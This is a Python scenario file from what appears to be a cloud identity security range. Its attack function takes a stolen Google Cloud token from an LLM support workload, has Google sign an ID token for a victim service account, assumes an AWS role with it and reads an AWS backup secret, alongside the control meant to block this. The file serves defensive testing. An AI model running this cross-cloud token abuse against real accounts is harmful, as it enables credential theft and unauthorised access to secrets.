"""A service account of Google Cloud, at a door in AWS that is another account's."""

from __future__ import annotations

import requests

from iamrange.core import aws_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import Asset, AssetKind, Foothold, Loot, Material, Part, Scenario, Taken
from scenarios import workloads

_TIMEOUT = 10


def attack(foothold: Taken) -> Loot:
    """Have Google sign an ID token for AWS about one's own account, and knock with it."""
    knows = foothold.knows
    federated = workloads.exchange_at_google(foothold.token, knows["gcp.provider"])
    answer = requests.post(
        "https://iamcredentials.googleapis.com/v1/projects/-/serviceAccounts/"
        f"{knows['victim.gcp_service_account']}:generateIdToken",
        json={"audience": knows["aws.audience"], "includeEmail": True},
        headers={"Authorization": f"Bearer {federated}"},
        timeout=_TIMEOUT,
    )
    answer.raise_for_status()
    session = workloads.assume_with_token(
        answer.json()["token"], knows["aws.google_role_arn"], name="from-google"
    )
    secret = workloads.read_aws_secret(
        workloads.aws_session(session), knows["aws.backup_secret_arn"]
    )
    return Loot((secret,))


SCENARIO = Scenario(
    claim="the one account of Google Cloud that may come into AWS is the only one that can",
    blocked_by=(aws_controls.TRUST_PINS_SUBJECT,),
    foothold=Foothold(Part.SUPPORT_LLM, Material.GCP_TOKEN, taken_from="projected token file"),
    asset=Asset(AssetKind.AWS_BACKUP_SECRET),
    knows=(
        "gcp.provider",
        "victim.gcp_service_account",
        "aws.audience",
        "aws.google_role_arn",
        "aws.backup_secret_arn",
    ),
    legitimate=workloads.READS_OWN_GCP_SECRET,
    attack=attack,
    maps_to=(fw.NHI4, fw.NHI8, fw.T1199),
    lesson="Google signs for everybody who ever made a service account; the number says for which.",
)
